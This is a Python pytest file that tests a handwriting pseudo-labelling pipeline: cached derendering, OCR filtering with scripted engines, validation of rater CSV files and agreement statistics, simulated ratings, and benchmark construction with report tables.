"""The pseudo-label pipeline: derendering with resume, OCR filter, ratings, agreement, benchmark, pipeline."""
import json
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from PIL import Image

from inkground_lib.components.derenderers.skeleton import SkeletonDerenderer
from inkground_lib.components.metrics.subsequence_dtw import subsequence_dtw
from inkground_lib.core.dataset import Page, Word, load_dataset, write_manifest
from inkground_lib.core.ink import Ink, as_ink
from inkground_lib.datasets.synth.generate import SynthParams, generate
from inkground_lib.pseudo.benchmark import build_benchmark
from inkground_lib.pseudo.derender_stage import derender_dataset
from inkground_lib.pseudo.keys import PseudoError
from inkground_lib.pseudo.ocr_filter import ocr_filter
from inkground_lib.pseudo.raters import (
    RaterModel,
    RatingsError,
    agreement,
    krippendorff_alpha_nominal,
    pair_defect,
    rater_filter,
    read_ratings,
    simulate_ratings,
)
from inkground_lib.pseudo.raters import (
    ratings_frame as raters_frame,
)
from inkground_lib.pseudo.run import PAGE_COLUMNS, run_pseudo_labels, summary_numbers
from inkground_lib.components.metrics.order import stroke_order_check
from inkground_lib.report.pseudo_labels import awaiting_text, funnel_table

# ---------------------------------------------------------------------------------------- fixtures

@pytest.fixture(scope="module")
def synth_ds(tmp_path_factory):

    root = tmp_path_factory.mktemp("synth") / "cand"
    generate(root, SynthParams(pages=3, words_min=2, words_max=6, words_mean=4, seed=3,
                                           width=700, height=900), progress=False)
    return root


class CountingDerenderer:
    """The skeleton derenderer, counting calls; raises after ``_fail_after`` calls (a simulated kill)."""

    name = "counting"

    def __init__(self, fail_after=None, variant=0):
        self.variant = variant  # a setting: part of the cache key
        self._inner = SkeletonDerenderer()
        self._calls = 0
        self._fail_after = fail_after

    def derender(self, crop, crop_box, text=None):
        if self._fail_after is not None and self._calls >= self._fail_after:
            raise KeyboardInterrupt("simulated kill")
        self._calls += 1
        return self._inner.derender(crop, crop_box, text)


class ScriptedEngine:
    """OCR stand-in: crops (3-D RGB) read as ``crop_text(i)``, renders (2-D gray) as ``render_text(i)``."""

    name = "scripted"

    def __init__(self, crop_text=lambda i: "word", render_text=lambda i: "word"):
        self.crop_text, self.render_text = crop_text, render_text
        self.images = 0

    def read(self, images):
        self.images += len(images)
        return [self.crop_text(i) if im.ndim == 3 else self.render_text(i) for i, im in enumerate(images)]


def hand_dataset(root: Path, words_per_page=(3, 0)) -> Path:
    """Pages with a dark line per word on a light photo; true = reference = that line."""
    root.mkdir(parents=True, exist_ok=True)
    (root / "pages").mkdir(exist_ok=True)
    pages = []
    for i, n in enumerate(words_per_page):
        pid = f"p{i:03d}"
        width = max(300, 20 + 90 * n)  # every word box inside the page
        img = np.full((120, width, 3), 235, np.uint8)
        ws = []
        for j in range(n):
            x0 = 20 + 90 * j
            img[58:63, x0:x0 + 60] = 20
            ink = as_ink([[[x0, 60, 0], [x0 + 60, 60, 50]]])
            ws.append(Word(f"{pid}-w{j}", f"w{j}", (x0, 50, x0 + 60, 70), ink, pid, "train", ink))
        path = root / "pages" / f"{pid}.jpg"
        Image.fromarray(img).save(path)
        pages.append(Page(pid, path, f"writer{i}", width, 120, ws))
    write_manifest(root, "hand", "synth", "true ink", {"seed": 0}, pages)
    return root


# ------------------------------------------------------------------------------------- derendering

def test_derender_resumes_after_interruption(synth_ds, tmp_path):
    ds = load_dataset(synth_ds)
    n0 = len(ds.pages[0].words)
    run = tmp_path / "run"
    crashing = CountingDerenderer(fail_after=n0 + 1)  # page 0 completes, page 1 is killed mid-way
    with pytest.raises(KeyboardInterrupt):
        derender_dataset(ds, crashing, run, progress=False)
    path = run / "derender-counting.jsonl"
    assert len(path.read_text().splitlines()) == 1  # only the finished page was written
    again = CountingDerenderer()
    first = derender_dataset(ds, again, run, progress=False)
    assert again._calls == ds.n_words - n0  # finished page not recomputed
    third = CountingDerenderer()
    second = derender_dataset(ds, third, run, progress=False)
    assert third._calls == 0
    assert set(first) == {w.id for w in ds.words()}
    assert all(first[k] == second[k] for k in first)


def test_derender_torn_last_line_is_ignored_and_repaired(synth_ds, tmp_path):
    ds = load_dataset(synth_ds)
    run = tmp_path / "run"
    derender_dataset(ds, CountingDerenderer(), run, progress=False)
    path = run / "derender-counting.jsonl"
    with open(path, "ab") as f:
        f.write(b'{"schema": "inkground-pseudo-derender", "key": "ab')  # killed mid-write
    d = CountingDerenderer()
    derender_dataset(ds, d, run, progress=False)
    assert d._calls == 0
    lines = path.read_bytes().split(b"\n")
    assert lines[-1] == b"" and all(json.loads(x) for x in lines[:-1])


def test_derender_corrupt_middle_line_is_an_error(synth_ds, tmp_path):
    ds = load_dataset(synth_ds)
    run = tmp_path / "run"
    derender_dataset(ds, CountingDerenderer(), run, progress=False)
    path = run / "derender-counting.jsonl"
    lines = path.read_text().splitlines()
    path.write_text("\n".join(["garbage"] + lines) + "\n")
    with pytest.raises(PseudoError, match="line 1"):
        derender_dataset(ds, CountingDerenderer(), run, progress=False)


def test_derender_changed_settings_recompute(synth_ds, tmp_path):
    ds = load_dataset(synth_ds)
    run = tmp_path / "run"
    derender_dataset(ds, CountingDerenderer(variant=0), run, progress=False)
    d = CountingDerenderer(variant=1)
    derender_dataset(ds, d, run, progress=False)
    assert d._calls == ds.n_words


def test_pseudo_labels_lie_on_the_word(synth_ds, tmp_path):
    ds = load_dataset(synth_ds)
    pseudo = derender_dataset(ds, "skeleton", tmp_path, progress=False)
    for w in ds.words():
        ink = pseudo[w.id]
        assert ink.n_points > 0
        x0, y0, x1, y1 = ink.bbox()
        bx0, by0, bx1, by1 = w.box
        h = by1 - by0
        assert bx0 - h <= x0 and x1 <= bx1 + h and by0 - h <= y0 and y1 <= by1 + h


# -------------------------------------------------------------------------------------- OCR filter

def test_ocr_filter_all_match_and_page_without_words(tmp_path):
    ds = load_dataset(hand_dataset(tmp_path / "d", (3, 0)))
    pseudo = {w.id: w.ink for w in ds.words()}
    r = ocr_filter(ds, pseudo, ScriptedEngine(), progress=False)
    pages = r.pages.set_index("page")
    assert pages.loc["p000", "matched"] == 3 and pages.loc["p000", "ocr_pass"]
    assert pages.loc["p001", "words"] == 0
    assert np.isnan(pages.loc["p001", "match_rate"]) and not pages.loc["p001", "ocr_pass"]


def test_ocr_filter_all_rejected(tmp_path):
    ds = load_dataset(hand_dataset(tmp_path / "d", (3, 2)))
    pseudo = {w.id: w.ink for w in ds.words()}
    r = ocr_filter(ds, pseudo, ScriptedEngine(render_text=lambda i: "other"), progress=False)
    assert not r.pages["ocr_pass"].any() and (r.pages["matched"] == 0).all()
    assert not r.words["match"].any()


def test_ocr_filter_threshold_boundary_and_normalisation(tmp_path):
    ds = load_dataset(hand_dataset(tmp_path / "d", (4,)))
    pseudo = {w.id: w.ink for w in ds.words()}
    # word 3 mismatches; words 0-2 differ only in case and edge punctuation (equal after normalisation)
    eng = lambda: ScriptedEngine(crop_text=lambda i: ["Dear", "you,", "ok", "x"][i],
                                 render_text=lambda i: ["dear", "You", "OK.", "y"][i])
    at = ocr_filter(ds, pseudo, eng(), threshold=0.75, progress=False).pages.iloc[0]
    assert at["matched"] == 3 and at["match_rate"] == 0.75 and at["ocr_pass"]
    above = ocr_filter(ds, pseudo, eng(), threshold=0.76, progress=False).pages.iloc[0]
    assert not above["ocr_pass"]
    with pytest.raises(PseudoError, match="threshold"):
        ocr_filter(ds, pseudo, eng(), threshold=85, progress=False)


def test_ocr_filter_cache_resumes(tmp_path):
    ds = load_dataset(hand_dataset(tmp_path / "d", (3, 2)))
    pseudo = {w.id: w.ink for w in ds.words()}
    e1 = ScriptedEngine()
    a = ocr_filter(ds, pseudo, e1, run_dir=tmp_path / "run", progress=False)
    assert e1.images == 2 * ds.n_words
    e2 = ScriptedEngine(render_text=lambda i: "changed")  # would change the result if it were asked
    b = ocr_filter(ds, pseudo, e2, run_dir=tmp_path / "run", progress=False)
    assert e2.images == 0
    pd.testing.assert_frame_equal(a.pages, b.pages)
    # a changed pseudo-label changes the key: that page is read again
    pseudo2 = dict(pseudo)
    first = ds.pages[0].words[0].id
    pseudo2[first] = pseudo[first].transformed(dx=1.0)
    e3 = ScriptedEngine()
    ocr_filter(ds, pseudo2, e3, run_dir=tmp_path / "run", progress=False)
    assert e3.images == 2 * len(ds.pages[0].words)


def test_ocr_filter_with_rapidocr_reads_the_crops(synth_ds):
    ds = load_dataset(synth_ds)
    ds.pages = ds.pages[:1]
    from inkground_lib.components.metrics.readability import normalise_text
    from inkground_lib.components.ocr import make_engine

    pseudo = {w.id: w.ink for w in ds.words()}  # the true ink as "pseudo-label"
    r = ocr_filter(ds, pseudo, make_engine("rapidocr", progress=False), progress=False)
    ok = [normalise_text(a) == normalise_text(t) for a, t in zip(r.words["ocr_original"], r.words["text"])]
    assert np.mean(ok) >= 0.5
    assert r.pages.iloc[0]["matched"] == r.words["match"].sum()


# ----------------------------------------------------------------------------------------- ratings

def write_csv(path: Path, text: str) -> Path:
    path.write_text(text)
    return path


def test_read_ratings_ok_and_absent_rater(tmp_path):
    f = write_csv(tmp_path / "r.csv", "page,rater,score,comment\np1,a,10,fine\np1,b,10.0,\np2,a,7,\n\n")
    df = read_ratings(f)
    assert list(df.columns) == ["page", "rater", "score", "source"]
    assert df["score"].tolist() == [10, 10, 7]
    assert set(df["source"]) == {"file: r.csv"}
    # rater b gave no score for p2: simply absent; p2 is judged on rater a alone
    assert rater_filter(df) == ["p1"]


@pytest.mark.parametrize("body, line, field", [
    ("p1,a,11\n", 2, "score"),
    ("p1,a,10\np1,b,-1\n", 3, "score"),
    ("p1,a,7.5\n", 2, "score"),
    ("p1,a,ten\n", 2, "score"),
    ("p1,a,\n", 2, "score"),
    ("p1,,10\n", 2, "rater"),
    ("p1,a,10\np1,a,9\n", 3, "rater"),
])
def test_read_ratings_errors_name_file_row_field(tmp_path, body, line, field):
    f = write_csv(tmp_path / "bad.csv", "page,rater,score\n" + body)
    with pytest.raises(RatingsError) as e:
        read_ratings(f)
    msg = str(e.value)
    assert "bad.csv" in msg and f"line {line}" in msg and f"field {field}" in msg


def test_read_ratings_missing_column(tmp_path):
    f = write_csv(tmp_path / "bad.csv", "page,score\np1,10\n")
    with pytest.raises(RatingsError, match="field rater: column missing"):
        read_ratings(f)


def ratings_by_rater(d: dict) -> pd.DataFrame:
    rows = [{"page": p, "rater": f"r{i}", "score": s, "source": "test"} for p, ss in d.items()
            for i, s in enumerate(ss)]
    return raters_frame(rows)


def test_rater_filter_rules():
    df = ratings_by_rater({"A": [10, 10], "B": [10, 9], "C": [10]})
    assert rater_filter(df) == ["A", "C"]
    assert rater_filter(df, min_ratings=2) == ["A"]
    # a page with no rating is not kept; the given order is kept
    assert rater_filter(df, pages=["C", "D", "A"]) == ["C", "A"]
    assert rater_filter(ratings_by_rater({"A": [0, 3]})) == []


def test_agreement_and_alpha_hand_computed():
    # decisions (1 = accept = 10): A [1,1] B [0,0] C [1,0] D [1,1,0]; E has one rating (left out)
    df = ratings_by_rater({"A": [10, 10], "B": [3, 9], "C": [10, 5], "D": [10, 10, 0], "E": [10]})
    ag = agreement(df)
    assert ag["agreement"] == pytest.approx(0.5)
    # coincidences: o11 = 2 + 1 = 3, o00 = 2, o10 = o01 = 1 + 1 = 2; n1 = 5, n0 = 4, n = 9
    # alpha = 1 - (n - 1) * o01 / (n0 * n1) = 1 - 8 * 2 / 20 = 0.2
    assert ag["alpha"] == pytest.approx(0.2)
    assert ag["pages"] == 4 and ag["single_rated_pages"] == 1 and ag["ratings"] == 9
    assert ag["accept_share"] == pytest.approx(5 / 9)


def test_krippendorff_alpha_published_example():
    # Krippendorff (2011), "Computing Krippendorff's alpha-reliability", nominal example: alpha = 0.743
    units = [[1, 1, 1], [2, 2, 3, 2], [3, 3, 3, 3], [3, 3, 3, 3], [2, 2, 2, 2], [1, 2, 3, 4], [4, 4, 4, 4],
             [1, 1, 2, 1], [2, 2, 2, 2], [5, 5, 5], [1, 1], [3]]
    assert krippendorff_alpha_nominal(units) == pytest.approx(0.743, abs=5e-4)
    assert krippendorff_alpha_nominal([[1, 1], [0, 0]]) == pytest.approx(1.0)
    assert np.isnan(krippendorff_alpha_nominal([[1, 1], [1, 1, 1]]))  # no variation: undefined
    assert np.isnan(krippendorff_alpha_nominal([[1], [0]]))


def test_simulate_ratings_model():
    pages = [f"p{i}" for i in range(200)]
    perfect = simulate_ratings(pages, {p: 0.0 for p in pages}, n_raters=85, per_pair=(2, 3), seed=1)
    assert (perfect["source"] == "simulated").all()
    counts = perfect.groupby("page").size()
    assert counts.between(2, 3).all() and set(counts) == {2, 3}
    assert perfect["rater"].nunique() <= 85 and not perfect.duplicated(["page", "rater"]).any()
    assert (perfect["score"] == 10).mean() > 0.95
    bad = simulate_ratings(pages, {p: 1.0 for p in pages}, per_pair=2, seed=1)
    assert (bad["score"] < 10).mean() > 0.95 and bad["score"].between(0, 10).all()
    strict = simulate_ratings(pages, {p: 1.0 for p in pages}, per_pair=2, seed=1,
                                model=RaterModel(strictness_sd=0.0, noise_sd=0.0))
    assert strict["score"].tolist() == [0] * len(strict)  # x = 1.0 >> tau: 9 - floor(0.92 / 0.04) < 0 -> 0
    again = simulate_ratings(pages, {p: 0.0 for p in pages}, n_raters=85, per_pair=(2, 3), seed=1)
    pd.testing.assert_frame_equal(perfect, again)
    # a page's ratings do not depend on which other pages are rated
    alone = simulate_ratings(["p7"], {"p7": 0.0}, n_raters=85, per_pair=(2, 3), seed=1)
    pd.testing.assert_frame_equal(alone, perfect[perfect["page"] == "p7"].reset_index(drop=True))
    with pytest.raises(PseudoError, match="defect"):
        simulate_ratings(["a"], {"a": 1.5})
    with pytest.raises(PseudoError, match="raters"):
        simulate_ratings(["a"], {"a": 0.0}, n_raters=2, per_pair=3)


def test_pair_defect():
    words = pd.DataFrame({"page": ["a", "a", "b", "b"], "match": [True, False, True, True],
                          "chamfer": [0.01, 0.01, 0.5, np.nan]})
    d = pair_defect(words, chamfer_tol=0.1)
    assert d["a"] == 0.5 and d["b"] == 0.5


# ------------------------------------------------------------------------------------- order check

V = [[0, 0], [5, 10], [10, 0]]
DOT = [[5, -3], [5.2, -3]]


def test_stroke_order_check_cases():
    true = as_ink([V, DOT])
    assert stroke_order_check(true, true) == (False, False)
    assert stroke_order_check(as_ink([V[::-1], DOT]), true) == (False, True)
    assert stroke_order_check(as_ink([DOT, V]), true) == (True, False)
    assert stroke_order_check(Ink(), true) == (None, None)
    # a dot alone has no direction
    assert stroke_order_check(as_ink([DOT]), true) == (False, None)
    # a path retraced by the writer (down, then up the same line) drawn once upwards: not "backwards"
    retrace = as_ink([[[0, 0], [0, 10], [0, 0]]])
    assert stroke_order_check(as_ink([[[0, 10], [0, 0]]]), retrace)[1] is False


def test_subsequence_dtw_finds_the_part():
    R = np.column_stack([np.arange(20.0), np.zeros(20)])
    cost, idx = subsequence_dtw(R[5:9], R)
    assert cost == pytest.approx(0.0) and idx.tolist() == [5, 6, 7, 8]
    rev, _ = subsequence_dtw(R[5:9][::-1], R)
    assert rev > 1.0


# ------------------------------------------------------------------------------------- benchmark

def test_build_benchmark(synth_ds, tmp_path):
    ds = load_dataset(synth_ds)
    pseudo = derender_dataset(ds, "skeleton", tmp_path / "run", progress=False)
    kept = [ds.pages[2].id, ds.pages[0].id]
    empty_word = ds.pages[0].words[0].id
    pseudo = dict(pseudo)
    pseudo[empty_word] = Ink()
    out = build_benchmark(ds, pseudo, kept, tmp_path / "bench", meta={"derenderer": "skeleton", "x": 1})
    b = load_dataset(out)
    assert b.kind == "benchmark" and b.reference == "pseudo-label: skeleton"
    assert [p.id for p in b.pages] == [ds.pages[0].id, ds.pages[2].id]  # candidate order
    assert b.meta["dropped_empty_words"] == 1 and b.meta["x"] == 1
    for p in b.pages:
        src = ds.page(p.id)
        assert p.image.read_bytes() == src.image.read_bytes()
        for w in p.words:
            assert w.id != empty_word
            assert w.ink == pseudo[w.id]
            true = next(x for x in src.words if x.id == w.id).true_ink
            assert np.allclose(w.true_ink.points(), true.points(), atol=0.01)
    before = (out / "manifest.json").stat().st_mtime_ns
    build_benchmark(ds, pseudo, kept, out, meta={"derenderer": "skeleton", "x": 1})
    assert (out / "manifest.json").stat().st_mtime_ns == before  # same inputs: untouched
    build_benchmark(ds, pseudo, kept[:1], out, meta={"derenderer": "skeleton", "x": 1})
    assert [p.id for p in load_dataset(out).pages] == [ds.pages[2].id]
    with pytest.raises(PseudoError, match="not a benchmark"):
        build_benchmark(ds, pseudo, kept, synth_ds, meta={"derenderer": "skeleton"})


# --------------------------------------------------------------------------------------- pipeline

def test_run_pseudo_labels_end_to_end_and_reuse(synth_ds, tmp_path):
    run = tmp_path / "run"
    d, e = CountingDerenderer(), ScriptedEngine()
    r = run_pseudo_labels(synth_ds, run, derenderer=d, ocr=e, raters_per_pair=(2, 3), n_raters=10, seed=2,
                       progress=False)
    ds = load_dataset(synth_ds)
    assert d._calls == ds.n_words and e.images == 2 * ds.n_words
    f = r.funnel.set_index("stage")["pages"].tolist()
    assert f == [3, 3, int(r.pages["kept"].sum())]  # the scripted OCR matches everything
    assert set(PAGE_COLUMNS) <= set(r.pages.columns)
    assert r.has_truth and r.pages["dtw"].notna().all() and r.words["chamfer"].notna().all()
    assert (r.ratings["source"] == "simulated").all() and (run / "ratings.csv").is_file()
    assert r.pages["n_ratings"].between(2, 3).all()
    kept = rater_filter(r.ratings)
    assert r.pages.loc[r.pages["kept"], "page"].tolist() == [p.id for p in ds.pages if p.id in kept]
    b = load_dataset(r.benchmark)
    assert b.kind == "benchmark" and len(b.pages) == len(kept)
    assert b.meta["ratings_source"] == "simulated" and b.meta["ocr_engine"] == "scripted"
    assert b.meta["candidates"]["hash"] and b.meta["ocr_threshold"] == 0.85
    s = json.loads((run / "summary.json").read_text())
    assert s["numbers"]["candidates"] == 3 and s["components"]["ratings_source"] == "simulated"
    # rerun: nothing expensive recomputed, same result
    d2, e2 = CountingDerenderer(), ScriptedEngine()
    r2 = run_pseudo_labels(synth_ds, run, derenderer=d2, ocr=e2, raters_per_pair=(2, 3), n_raters=10, seed=2,
                        progress=False)
    assert d2._calls == 0 and e2.images == 0
    pd.testing.assert_frame_equal(r.pages, r2.pages)
    tab = funnel_table(r2)
    assert tab.loc["candidate pages", "paper (reported)"] == 2984
    # parameters are set, not measured, and never divided by the paper's (issue 13); no raw NaN on the page
    for q, v in (("OCR match threshold (share of words)", 0.85), ("raters (pool)", 10), ("raters per pair (min)", 2),
                 ("score every rater must give to keep a page", 10)):
        assert tab.loc[q, "ours (measured)"] == "— set, not measured"
        assert tab.loc[q, "ours (set, not measured)"] == v and str(tab.loc[q, "ours / paper"]).startswith("—")
    assert tab.loc["OCR match threshold (share of words)", "ours / paper"] == "— set to the paper's value"
    assert tab.loc["raters (pool)", "ours / paper"] == "— set by this run, not the paper's value"  # 10, not 85
    # the candidate pages are the run's input (a requested count): set, not measured, no ratio (issue 27)
    assert tab.loc["candidate pages", "ours (set, not measured)"] == 3
    assert tab.loc["candidate pages", "ours (measured)"] == "— set, not measured"
    # counts of a run of another size and what simulated raters did get no ratio, with the reason
    assert str(tab.loc["pages passing the OCR filter", "ours / paper"]).startswith("— not comparable: a count of a run of 3")
    assert "simulated raters" in str(tab.loc["rater agreement on accept / reject", "ours / paper"])
    assert tab.loc["raters who rated a pair here", "paper (reported)"] == "— not reported"
    assert "NaN" not in tab.to_string() and "nan" not in tab.to_html()


def test_run_pseudo_labels_with_ratings_file_and_subset(synth_ds, tmp_path):
    ds = load_dataset(synth_ds)
    p0, p1 = ds.pages[0].id, ds.pages[1].id
    f = write_csv(tmp_path / "ratings.csv",
                  f"page,rater,score\n{p0},a,10\n{p0},b,10\n{p1},a,10\n{p1},b,8\n")
    r = run_pseudo_labels(synth_ds, tmp_path / "run", derenderer=CountingDerenderer(), ocr=ScriptedEngine(),
                       ratings=f, n_candidates=2, progress=False)
    assert len(r.pages) == 2
    assert r.pages["kept"].tolist() == [True, False]
    assert r.agreement["agreement"] == 0.5 and r.agreement["ratings_outside_candidates"] == 0  # issue 33: refused
    assert r.components["ratings_source"] == "file: ratings.csv"
    assert load_dataset(r.benchmark).meta["ratings_source"] == "file: ratings.csv"
    assert r.pages["defect"].isna().all()


def test_run_pseudo_labels_all_rejected_by_ocr(synth_ds, tmp_path):
    r = run_pseudo_labels(synth_ds, tmp_path / "run", derenderer=CountingDerenderer(),
                       ocr=ScriptedEngine(render_text=lambda i: "zz"), progress=False)
    assert r.funnel["pages"].tolist() == [3, 0, 0]
    assert r.ratings.empty and np.isnan(r.agreement["agreement"])
    assert load_dataset(r.benchmark).pages == []
    assert (r.pages["stage"] == "failed OCR filter").all()


def test_read_ratings_of_inkground_rate_file_undo_and_torn_line(tmp_path):
    from inkground_lib.pseudo.raters import LOG_COLUMNS

    head = ",".join(LOG_COLUMNS) + "\n"
    f = write_csv(tmp_path / "people.csv", head + "p1,ann,7,real,2026-11-30T10:00:00Z,rate,s1,2\n"
                  "p1,ann,7,real,2026-11-30T10:00:05Z,undo,s1,2\np1,ann,10,real,2026-11-30T10:00:09Z,rate,s1,2\n"
                  "p1,bob,9,real,2026-11-30T10:01:00Z,rate,s2,2\np2,bob,1")  # the last row was cut by a crash
    with pytest.warns(UserWarning, match="line 6: an incomplete last row"):
        df = read_ratings(f)
    assert df[["page", "rater", "score", "source"]].values.tolist() == [["p1", "ann", 10, "real"],
                                                                        ["p1", "bob", 9, "real"]]
    assert df["time"].tolist() == ["2026-11-30T10:00:09Z", "2026-11-30T10:01:00Z"]
    assert rater_filter(df) == []


def test_run_pseudo_labels_with_real_ratings_says_so(synth_ds, tmp_path):
    from inkground_lib.pseudo.ratings_log import RatingsLog
    from inkground_lib.report.pseudo_labels import provenance

    ds = load_dataset(synth_ds)
    p0, p1 = ds.pages[0].id, ds.pages[1].id
    log = RatingsLog(tmp_path / "people.csv")
    for page, rater, score, action in [(p0, "ann", 10, "rate"), (p0, "bob", 8, "rate"), (p0, "bob", 8, "undo"),
                                       (p0, "bob", 10, "rate"), (p1, "ann", 10, "rate"), (p1, "bob", 3, "rate")]:
        log.append({"page": page, "rater": rater, "score": score, "action": action, "session": rater,
                    "raters_per_page": 2})
    r = run_pseudo_labels(synth_ds, tmp_path / "run", derenderer=CountingDerenderer(), ocr=ScriptedEngine(),
                          ratings=tmp_path / "people.csv", n_candidates=2, progress=False)
    assert r.pages["kept"].tolist() == [True, False]  # bob's 8 on p0 was undone and replaced by a 10
    text = provenance(r, ds)["ratings"]
    assert text.startswith("2 raters, real ratings (file people.csv: 4 ratings") and "SIMULATED" not in text
    plain = write_csv(tmp_path / "plain.csv", f"page,rater,score\n{p0},a,10\n{p0},b,10\n{p1},a,10\n")
    r = run_pseudo_labels(synth_ds, tmp_path / "run2", derenderer=CountingDerenderer(), ocr=ScriptedEngine(),
                          ratings=plain, n_candidates=2, progress=False)
    assert provenance(r, ds)["ratings"] == "ratings read from plain.csv"
    assert r.pages["stage"].tolist() == ["kept", "awaiting ratings"]  # K = raters_per_pair = 2: p1 has one


def test_section_02_overview_says_what_ran_and_how_many_ratings(synth_ds, tmp_path):
    """Issue 27: the overview names each component as the paper's or a stand-in, says that simulated raters see
    the distance to the true ink, and one number of ratings per pair reads as one number."""
    from types import SimpleNamespace as NS

    from inkground_lib.core.layout import NOTEBOOKS
    from inkground_lib.report.pseudo_labels import ratings_per_pair_text, stands_in_text

    r = run_pseudo_labels(synth_ds, tmp_path / "run", derenderer=CountingDerenderer(), ocr=ScriptedEngine(),
                          raters_per_pair=2, n_raters=10, progress=False)
    nums = summary_numbers(r)
    assert (nums["raters_per_pair_min"], nums["raters_per_pair_max"]) == (2, 2)
    assert ratings_per_pair_text(nums["raters_per_pair_min"], nums["raters_per_pair_max"]) == "2 ratings per pair"
    text = stands_in_text(r)
    assert "none of its components is" in text and "in place of InkSight Small-p" in text
    assert "simulated raters" in text and "distance to the writer's true ink" in text
    papers = NS(components={"derenderer": "inksight-small-p", "ocr_engine": "deepseek-ocr",
                            "ratings_source": "file: people.csv"}, params={}, has_truth=False)
    text = stands_in_text(papers)
    assert "the raters are not" in text and "InkSight Small-p, the paper's derenderer" in text
    assert "in place of" in text and "true ink" not in text and "none of" not in text
    source = (NOTEBOOKS / "02_pseudo_labels.ipynb").read_text("utf-8")
    assert "exactly as" not in source and "s02_stands_in_text" in source and "s02_per_pair_text" in source
    assert "raters_per_pair_max:.0f` ratings per pair" not in source


# --------------------------------------------------------------------- partial ratings, K, the run's ratings (28)

def rate_rows(log, rows, k=2):
    for page, rater, score in rows:
        log.append({"page": page, "rater": rater, "score": score, "action": "rate", "session": rater,
                    "raters_per_page": k})


def test_pages_with_fewer_than_k_ratings_await_and_more_than_half_refuses(synth_ds, tmp_path):
    """K comes from the file (raters_per_page = 3 here, not raters_per_pair): a page with fewer standing ratings
    is neither kept nor rejected, even when one of them is below 10; when more than half of the OCR-passed pages
    await ratings, no benchmark is built and no table written, unless allow_partial_ratings."""
    from inkground_lib.pseudo.ratings_log import RatingsLog

    ds = load_dataset(synth_ds)
    p0, p1, p2 = (p.id for p in ds.pages)
    f = tmp_path / "people.csv"
    log = RatingsLog(f)
    rate_rows(log, [(p0, "ann", 10), (p0, "bob", 10), (p0, "cid", 10), (p1, "ann", 10), (p1, "bob", 3)], k=3)
    run = tmp_path / "run"
    kw = dict(derenderer=CountingDerenderer(), ocr=ScriptedEngine(), ratings=f, progress=False, raters_per_pair=2)
    with pytest.raises(RatingsError, match=r"2 of the 3 pages .* fewer than K = 3 standing ratings") as e:
        run_pseudo_labels(synth_ds, run, **kw)
    assert "--allow-partial-ratings" in str(e.value) and "allow_partial_ratings" in str(e.value)
    assert not (run / "pages.csv").exists() and not (run / "summary.json").exists()
    assert not (run / "benchmark").exists()
    r = run_pseudo_labels(synth_ds, run, allow_partial_ratings=True, **kw)
    assert r.pages.set_index("page")["stage"].to_dict() == {p0: "kept", p1: "awaiting ratings", p2: "awaiting ratings"}
    assert r.pages["kept"].tolist() == [True, False, False] and r.raters.k == 3
    assert (r.raters.kept, r.raters.rejected, r.raters.awaiting) == ([p0], [], [p1, p2])
    n = summary_numbers(r)
    assert (n["raters_per_page"], n["pages_rated"], n["pages_rejected"], n["pages_awaiting_ratings"]) == (3, 1, 0, 2)
    assert n["partial_ratings_allowed"] == 1 and n["rater_agreement"] == 0.5  # p0 agrees, p1 does not
    tab = funnel_table(r)
    assert tab.loc["ratings a page needs to count as rated (K)", "ours (set, not measured)"] == 3
    assert tab.loc["OCR-passed pages awaiting ratings (fewer than K; neither kept nor rejected)", "ours (measured)"] == 2
    assert tab.loc["ratings", "ours (measured)"] == "real ratings (file people.csv)"
    assert "allow_partial_ratings" in awaiting_text(n)
    # one more rating: p1 is now rated (rejected: bob gave 3) and only p2 awaits: no refusal
    rate_rows(log, [(p1, "cid", 10)], k=3)
    r = run_pseudo_labels(synth_ds, run, **{**kw, "derenderer": CountingDerenderer(), "ocr": ScriptedEngine()})
    assert r.pages.set_index("page")["stage"].to_dict() == {p0: "kept", p1: "rejected by raters",
                                                             p2: "awaiting ratings"}
    t = awaiting_text(summary_numbers(r))
    assert t.startswith("The page awaiting ratings has fewer") and "allow_partial_ratings" not in t


def test_the_run_folder_holds_the_ratings_it_used(synth_ds, tmp_path):
    """A simulated run, then a run from a ratings file in the same folder: ratings.csv holds the file's standing
    ratings of the OCR-passed pages with their source (never the stale simulated ones), and summary.json names
    the file, its sha256 and K."""
    import hashlib

    from inkground_lib.pseudo.ratings_log import RatingsLog

    ds = load_dataset(synth_ds)
    p0, p1, _ = (p.id for p in ds.pages)
    run = tmp_path / "run"
    run_pseudo_labels(synth_ds, run, derenderer=CountingDerenderer(), ocr=ScriptedEngine(), n_raters=10,
                      progress=False)
    assert set(pd.read_csv(run / "ratings.csv")["source"]) == {"simulated"}
    f = tmp_path / "people.csv"
    log = RatingsLog(f)
    # a page elsewhere would be refused (issue 33)
    rate_rows(log, [(p0, "ann", 10), (p0, "bob", 10), (p1, "ann", 7), (p1, "bob", 10)])
    log.append({"page": p1, "rater": "ann", "score": 7, "action": "undo", "session": "ann", "raters_per_page": 2})
    rate_rows(log, [(p1, "ann", 10)])
    r = run_pseudo_labels(synth_ds, run, derenderer=CountingDerenderer(), ocr=ScriptedEngine(), ratings=f,
                          n_candidates=2, progress=False)
    used = pd.read_csv(run / "ratings.csv", dtype={"page": str})
    assert sorted(zip(used["page"], used["rater"], used["score"])) == [(p0, "ann", 10), (p0, "bob", 10),
                                                                        (p1, "ann", 10), (p1, "bob", 10)]
    assert set(used["source"]) == {"real"} and used["time"].str.endswith("Z").all()
    s = json.loads((run / "summary.json").read_text())
    info = s["ratings_file"]
    assert info["sha256"] == hashlib.sha256(f.read_bytes()).hexdigest() and info["raters_per_page"] == 2
    assert info["k_from"] == "file" and info["path"] == str(f) and info["standing_ratings"] == 4
    assert s["numbers"]["benchmark_pages"] == 2 and s["params"]["raters_per_page"] == 2


def test_load_ratings_k_and_its_errors(tmp_path):
    from inkground_lib.pseudo.raters import LOG_COLUMNS, load_ratings

    head = ",".join(LOG_COLUMNS) + "\n"
    f = write_csv(tmp_path / "a.csv", head + "p1,ann,10,real,t,rate,s,3\np1,bob,10,real,t,rate,s,3\n")
    got = load_ratings(f)
    assert got.k == 3 and got.rows == 2 and len(got.ratings) == 2
    write_csv(f, head + "p1,ann,10,real,t,rate,s,3\np1,bob,10,real,t,rate,s,2\n")
    with pytest.raises(RatingsError, match=r"line 3: field raters_per_page: 2 differs from 3 \(line 2\)"):
        load_ratings(f)
    write_csv(f, head + "p1,ann,10,real,t,rate,s,two\n")
    with pytest.raises(RatingsError, match=r"line 2: field raters_per_page: 'two' is not an integer >= 1"):
        load_ratings(f)
    assert load_ratings(write_csv(tmp_path / "plain.csv", "page,rater,score\np1,a,10\n")).k is None
